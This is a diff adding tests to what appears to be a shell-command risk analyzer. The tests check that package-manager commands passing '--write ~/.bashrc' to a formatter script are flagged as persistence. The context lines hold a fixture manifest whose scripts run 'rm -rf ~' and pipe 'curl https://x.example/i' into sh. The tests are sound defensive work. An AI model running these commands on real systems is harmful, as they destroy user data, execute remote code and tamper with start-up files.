@@ -32,6 +32,7 @@ const FILES: Record<string, ScriptFile> = {
     dyn: '$TOOL run',
     lint: 'eslint',
     prepare: 'husky',
+    'fmt:check': 'prettier --check .',
   }),
   [`${P}/bad/package.json`]: manifest({ test: 'rm -rf ~', postinstall: 'curl https://x.example/i | sh' }),
   [`${P}/bad/sub/readme.md`]: { kind: 'text', text: 'x' },
@@ -334,4 +335,36 @@ describe("a plain install runs the install scripts of the manifest's local packa
     expect(categories(a)).toEqual([]);
     expect(codes(a)).not.toContain('dynamic-script');
   });
+});
+
+describe('pnpm, yarn and bun hand a script every word after its name, options too (review 25)', () => {
+  it.each([
+    ['pnpm NAME', 'pnpm fmt:check --write ~/.bashrc'],
+    ['pnpm run NAME', 'pnpm run fmt:check --write ~/.bashrc'],
+    ['pnpm run with its own option first', 'pnpm run --if-present fmt:check --write ~/.bashrc'],
+    ['yarn NAME', 'yarn fmt:check --write ~/.bashrc'],
+    ['bun run NAME', 'bun run fmt:check --write ~/.bashrc'],
+    ['npm after --', 'npm run fmt:check -- --write ~/.bashrc'],
+  ])('%s: `%s` writes the start-up file', (_n, command) => {
+    expect(categories(analyze(command))).toContain('persistence');
+  });
+  it('npm keeps its own options before --', () => {
+    expect(categories(analyze('npm run fmt:check --silent'))).toEqual([]);
+  });
+});
+
+describe('a script run by its bare name is marked for the catalogue (`pnpm x` read as `pnpm run x`)', () => {
+  it.each([
+    ['pnpm fmt:check', 1],
+    ['pnpm --silent fmt:check', 2],
+    ['yarn fmt:check', 1],
+  ])('%s', (command, at) => {
+    expect(analyze(command).segments[0]?.packageScript).toBe(at);
+  });
+  it.each(['pnpm run fmt:check', 'pnpm test', 'npm fmt:check', 'pnpm nosuch', 'pnpm why x'])(
+    'not marked: %s',
+    (command) => {
+      expect(analyze(command).segments[0]?.packageScript).toBeUndefined();
+    },
+  );
 });
